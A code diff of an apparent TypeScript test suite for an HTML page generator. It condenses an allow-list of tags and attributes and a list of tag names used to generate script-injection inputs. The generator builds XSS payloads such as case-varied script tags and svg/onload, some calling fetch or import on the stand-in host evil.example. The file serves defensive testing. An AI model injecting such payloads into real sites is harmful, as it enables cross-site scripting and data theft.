@@ -24,73 +24,20 @@ const PAGES = sized({ quick: 180, deep: 700 });
 
 /** Every tag that may stand in a page, with the attributes that it may have. */
 const ELEMENTS = new Map(
-  Object.entries({
-    ...{
-      a: 'href class rel target aria-current aria-expanded',
-      article: 'class',
-      blockquote: 'class',
-      body: 'class data-mark',
-    },
-    ...{
-      button: 'class type id hidden',
-      code: '',
-      del: 'class',
-      details: 'class open',
-      div: 'class id role hidden dir aria-live',
-    },
-    ...{
-      em: '',
-      figcaption: 'class',
-      figure: 'class',
-      form: 'method action class role id',
-      g: '',
-      h1: 'class',
-      h2: 'class id',
-      h3: '',
-    },
-    ...{
-      head: '',
-      header: 'class',
-      html: 'lang',
-      input: 'type name value id readonly dir placeholder autocomplete spellcheck',
-    },
-    ...{
-      kbd: '',
-      label: 'for class',
-      li: 'class id tabindex aria-hidden',
-      link: 'rel href',
-      main: 'id tabindex',
-      mark: '',
-    },
-    ...{
-      meta: 'charset name content',
-      nav: 'class aria-label',
-      ol: 'class aria-label',
-      p: 'class dir',
-      path: 'd',
-      pre: '',
-      br: '',
-    },
-    ...{
-      q: 'class dir',
-      rect: 'class x y width height rx',
-      script: 'type src',
-      section: 'class id aria-labelledby aria-label',
-    },
-    ...{
-      small: '',
-      span: 'class dir',
-      strong: 'class',
-      summary: 'class',
-      table: '',
-      tbody: '',
-      td: '',
-      text: 'x y',
-      thead: '',
-    },
-    ...{ textarea: 'id name rows dir', th: 'scope', time: 'datetime', title: '', tr: '', ul: 'class' },
-    svg: 'class viewBox width height role aria-label aria-hidden preserveAspectRatio',
-  }).map(([tag, attributes]) => [tag, new Set(attributes.split(' '))]),
+  `a href class rel target aria-current aria-expanded | article class | blockquote class | body class data-mark |
+  br | button class type id hidden | code | del class | details class open |
+  div class id role hidden dir aria-live | em | figcaption class | figure class |
+  form method action class role id | g | h1 class | h2 class id | h3 | head | header class | html lang |
+  input type name value id readonly dir placeholder autocomplete spellcheck | kbd | label for class |
+  li class id tabindex aria-hidden | link rel href | main id tabindex | mark | meta charset name content |
+  nav class aria-label | ol class aria-label | p class dir | path d | pre | q class dir |
+  rect class x y width height rx | script type src | section class id aria-labelledby aria-label | small |
+  span class dir | strong class | summary class |
+  svg class viewBox width height role aria-label aria-hidden preserveAspectRatio | table | tbody | td |
+  text x y | textarea id name rows dir | th scope | thead | time datetime | title | tr | ul class`
+    .split('|')
+    .map((row) => row.trim().split(' '))
+    .map(([tag = '', ...attributes]) => [tag, new Set(attributes)]),
 );
 
 /** What of a page is not the page's own, as its tags say. */
@@ -118,21 +65,7 @@ function scriptsBySeed(count: number): string[] {
   const call = (n: number) =>
     pick([`alert(${n})`, `globalThis.hacked=${n}`, `fetch("//evil.example/${n}")`, `import("//evil.example")`]);
   const tag = () =>
-    pick([
-      'script',
-      'SCRIPT',
-      'ScRiPt',
-      'svg/onload',
-      'iframe',
-      'img',
-      'math',
-      'style',
-      'template',
-      'object',
-      'base',
-      'form',
-      'a',
-    ]);
+    pick('script SCRIPT ScRiPt svg/onload iframe img math style template object base form a'.split(' '));
   const begin = () =>
     pick([
       '',
